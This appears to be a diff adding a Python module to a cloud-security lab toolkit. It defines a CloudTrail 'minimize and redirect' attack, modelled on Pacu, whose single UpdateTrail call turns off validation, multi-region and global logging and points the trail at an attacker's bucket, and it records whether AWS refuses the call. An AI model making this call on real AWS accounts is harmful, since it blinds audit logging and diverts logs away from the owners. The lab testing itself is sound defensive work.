@@ -1,0 +1,55 @@
+"""The attack of the demonstration: one UpdateTrail call blinds a trail and moves it to the attacker's bucket.
+
+The settings are those of the "minimize" technique of the open-source framework Pacu (module
+`detection__disruption`), which switches off everything a trail can do without, and the bucket is changed too.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from dataclasses import dataclass
+from typing import Any
+
+from botocore.exceptions import ClientError
+
+from toolkit.lab.account import ATTACKER_BUCKET, TRAIL_NAME, AccessKey
+from toolkit.lab.emulator.server import Lab
+
+MINIMIZE: Mapping[str, Any] = {
+    "SnsTopicName": "",
+    "IncludeGlobalServiceEvents": False,
+    "IsMultiRegionTrail": False,
+    "EnableLogFileValidation": False,
+    "CloudWatchLogsLogGroupArn": "",
+    "CloudWatchLogsRoleArn": "",
+    "KmsKeyId": "",
+}
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One way to hurt a trail, with what it sends."""
+
+    name: str
+    operation: str
+    parameters: Mapping[str, Any]
+
+    def detonate(self, lab: Lab, key: AccessKey) -> Any:
+        """Make the call with the attacker's own key; ClientError where AWS refuses it."""
+        client = lab.client("cloudtrail", **key.credentials)
+        return client._make_api_call(self.operation, dict(self.parameters))
+
+    def refusal(self, lab: Lab, key: AccessKey) -> str:
+        """Make the call again, and return the error code that AWS refuses it with; "" where it does not."""
+        try:
+            self.detonate(lab, key)
+        except ClientError as error:
+            return str(error.response["Error"]["Code"])
+        return ""
+
+
+MINIMIZE_AND_REDIRECT = Attack(
+    name="minimize and redirect",
+    operation="UpdateTrail",
+    parameters={"Name": TRAIL_NAME, "S3BucketName": ATTACKER_BUCKET, **MINIMIZE},
+)
